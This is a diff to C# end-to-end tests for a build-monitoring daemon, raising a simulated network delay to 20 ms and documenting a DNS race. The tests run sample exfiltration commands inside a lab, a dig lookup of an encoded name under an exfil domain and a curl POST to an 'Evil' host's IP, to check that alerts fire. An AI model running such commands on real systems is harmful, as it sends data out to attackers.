@@ -3,7 +3,12 @@ using static BuildSentry.EndToEnd.ScenarioTests;
 
 namespace BuildSentry.EndToEnd;
 
-/// <summary>The other ways out that the daemon must catch, each with the real tool a build would use.</summary>
+/// <summary>
+/// The other ways out that the daemon must catch, each with the real tool a build would use. The lab
+/// link has 20 ms of delay, an ordinary distance to the internet: over a sub-millisecond link a DNS
+/// socket can close before a user-space sensor looks it up (README, Performance), and these tests are
+/// about detection, not that race.
+/// </summary>
 [Collection(LabCollection.Name)]
 public sealed class ViolationTests(NetworkLabFixture fixture)
 {
@@ -12,7 +17,7 @@ public sealed class ViolationTests(NetworkLabFixture fixture)
     [Fact]
     public async Task DNS_exfiltration_through_dig_is_alerted_with_the_name_and_the_dig_process()
     {
-        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(5));
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
         await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
         var name = $"mfrggzdfmztwq2lk{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain}";
         using var job = BuildJob.Start(Lab, $"dig +short +tries=1 {name} > /dev/null; echo done");
@@ -27,7 +32,7 @@ public sealed class ViolationTests(NetworkLabFixture fixture)
     [Fact]
     public async Task A_connection_to_an_IP_literal_of_an_unknown_host_is_alerted_without_any_name()
     {
-        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(5));
+        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
         await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
         using var job = BuildJob.Start(Lab, $"curl -s -m 5 http://{Lab.Evil.IPv4}:{NetworkLab.SinkPort}/ -d x > /dev/null; echo done");
         await job.WaitAsync();
